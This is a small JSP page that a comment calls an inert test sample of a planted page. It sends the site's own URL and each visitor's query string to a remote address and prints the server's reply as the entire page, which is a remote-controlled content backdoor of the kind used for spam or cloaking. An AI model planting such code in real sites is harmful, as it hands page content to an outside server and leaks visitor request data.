<%@ page import="java.net.*,java.io.*" %><%
// inert test sample: a planted page that asks a remote server what to show for this very address
// and prints the reply as the whole page
String self = "http://" + request.getServerName() + request.getRequestURI();
URL u = new URL("http://198.51.100.23/tpl/get.php?host=" + URLEncoder.encode(self, "UTF-8") + "&q=" + request.getQueryString());
BufferedReader br = new BufferedReader(new InputStreamReader(u.openStream(), "UTF-8"));
String line;
while ((line = br.readLine()) != null) out.println(line);
%>
